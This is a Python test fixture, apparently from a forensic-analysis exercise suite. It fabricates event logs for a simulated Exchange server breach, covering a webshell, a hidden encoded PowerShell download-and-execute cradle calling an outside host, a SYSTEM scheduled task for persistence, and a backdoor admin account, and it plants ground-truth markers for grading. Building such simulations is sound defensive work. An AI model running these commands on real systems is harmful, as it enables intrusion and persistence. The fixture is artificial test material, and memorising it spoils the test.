"""9: one wrote a shell on 28 February; another came the same way on 5 March and ran PowerShell, a task, an account."""

import base64
from datetime import timedelta

from postvakt.estate.evtx_writer import Event
from tests.strangers import chain, events
from tests.strangers.ground import Gathered, HandIn, Server, at
from tests.strangers.rendering import hand_in
from tests.strangers.working import looked_for, working

SERVER = Server(
    name="BRN-MSG-05",
    netbios="AARE",
    dns="aare.corp.example",
    address="192.0.2.205",
    seed=205,
    begins=at("02-25 00:00"),
    ends=at("03-11 16:00"),
    builds=((at("01-01 00:00"), (15, 1, 1979, 3)),),
)
FIRST, SECOND = "198.51.100.177", "203.0.113.149"
SYSTEM32 = "C:\\Windows\\System32\\"
WORKER = f"{SYSTEM32}inetsrv\\w3wp.exe"
POOL = (
    f'{WORKER} -ap "MSExchangeECPAppPool" -v "v4.0" '
    '-c "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\bin\\GenericAppPoolConfigWithGCServerEnabledFalse.config" '
    "-a \\\\.\\pipe\\iisipm41"
)
POWERSHELL = f"{SYSTEM32}WindowsPowerShell\\v1.0\\powershell.exe"
DOWNLOAD = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.149/update/p?e')"
ENCODED = base64.b64encode(DOWNLOAD.encode("utf-16-le")).decode()
TASK = "\\WinSyncSvc"
TASK_FILE = f"""<?xml version="1.0" encoding="UTF-16"?>
<Task version="1.2" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">
  <RegistrationInfo><Date>2021-03-05T19:52:10</Date><Author>AARE\\BRN-MSG-05$</Author><URI>{TASK}</URI></RegistrationInfo>
  <Triggers><TimeTrigger><Repetition><Interval>PT45M</Interval></Repetition><StartBoundary>2021-03-05T19:52:00</StartBoundary><Enabled>true</Enabled></TimeTrigger></Triggers>
  <Principals>
    <Principal id="Author"><UserId>S-1-5-18</UserId><RunLevel>HighestAvailable</RunLevel></Principal>
  </Principals>
  <Actions Context="Author">
    <Exec><Command>powershell</Command><Arguments>-w hidden -enc {ENCODED}</Arguments></Exec>
  </Actions>
</Task>
"""


def handed_in() -> HandIn:
    gathered = working(SERVER, audited=False, sysmon=True)
    way = {"client": FIRST, "stem": "/ecp/b.js", "agent": "python-requests/2.25.1"}
    chain.into_the_panel(gathered, at("02-28 06:20:14"), **way)
    path = f"{SERVER.install}/FrontEnd/HttpProxy/owa/auth/kq0zr.aspx"
    chain.write_the_shell(
        gathered, at("02-28 06:20:33"), path=path, key="NO9BxmCXw0JE", quoted="value", **way
    )
    chain.into_the_panel(
        gathered,
        at("03-05 19:40:02"),
        client=SECOND,
        stem="/ecp/main.css",
        agent="Mozilla/5.0 (Windows NT 10.0; rv:78.0) Gecko/20100101 Firefox/78.0",
    )
    _commands(gathered)
    looked_for(gathered, at("03-09 02:17"), "203.0.113.201")
    return hand_in(gathered, "compromised", "shell-used")


def _commands(gathered: Gathered) -> None:
    begun = at("03-05 19:47:30")
    shell, net = f"{SYSTEM32}cmd.exe", f"{SYSTEM32}net.exe"
    lines = (
        (0, shell, f"cmd.exe /c powershell -w hidden -enc {ENCODED}", WORKER, POOL),
        (1, POWERSHELL, f"powershell  -w hidden -enc {ENCODED}", shell, ""),
        (
            280,
            f"{SYSTEM32}schtasks.exe",
            f"schtasks /create /tn {TASK[1:]} /ru system /sc MINUTE /mo 45 "
            f'/tr "powershell -w hidden -enc {ENCODED}" /F',
            POWERSHELL,
            "",
        ),
        (400, net, "net user svc_exmon Winter!2021x /add", POWERSHELL, ""),
        (407, net, "net localgroup administrators svc_exmon /add", POWERSHELL, ""),
    )
    for seconds, image, line, parent, above in lines:
        when = begun + timedelta(seconds=seconds)
        events.process(gathered, when, image, line, parent, parent_line=above, audited=False, sysmon=True)
        gathered.plant("event", f"Sysmon 1: {line[:60]} by {parent.rsplit(chr(92), 1)[1]}", when)
    events.script(gathered, begun + timedelta(seconds=2), DOWNLOAD)
    gathered.plant("event", "4104: DownloadString handed to IEX", begun + timedelta(seconds=2))
    task, member = begun + timedelta(seconds=280), begun + timedelta(seconds=407)
    machine = events.subject(gathered)
    security = gathered.events[events.SECURITY]
    security.append(Event(task, events.TASK_CREATED, (*machine, TASK, TASK_FILE)))
    gathered.events[events.TASKS].append(
        Event(task, events.TASK_REGISTERED, (TASK, "S-1-5-18"), user="S-1-5-18")
    )
    gathered.put(
        f"{SERVER.windows}/System32/Tasks{TASK.replace(chr(92), '/')}",
        TASK_FILE.replace("\n", "\r\n").encode("utf-16"),
        task,
    )
    gathered.plant("scheduled_task", f"{TASK}: hidden encoded PowerShell every 45 minutes as SYSTEM", task)
    local = "S-1-5-21-190001001-290002002-390003003"
    created = begun + timedelta(seconds=400)
    blank = (
        "-",
        "svc_exmon",
        "%%1793",
        "-",
        "%%1793",
        "%%1793",
        "%%1793",
        "%%1793",
        "%%1793",
        "%%1794",
        "%%1794",
        "513",
        "-",
        "0x0",
        "0x15",
        "%%2080 %%2082 %%2084",
        "%%1793",
        "-",
        "%%1797",
    )
    security.append(
        Event(created, events.USER_CREATED, ("svc_exmon", SERVER.name, f"{local}-1009", *machine, *blank))
    )
    security.append(
        Event(
            member,
            events.MEMBER_ADDED,
            ("-", f"{local}-1009", "Administrators", "Builtin", "S-1-5-32-544", *machine, "-"),
        )
    )
    gathered.plant(
        "event", "4720 and 4732: svc_exmon, an administrator, by the server's own account", created
    )
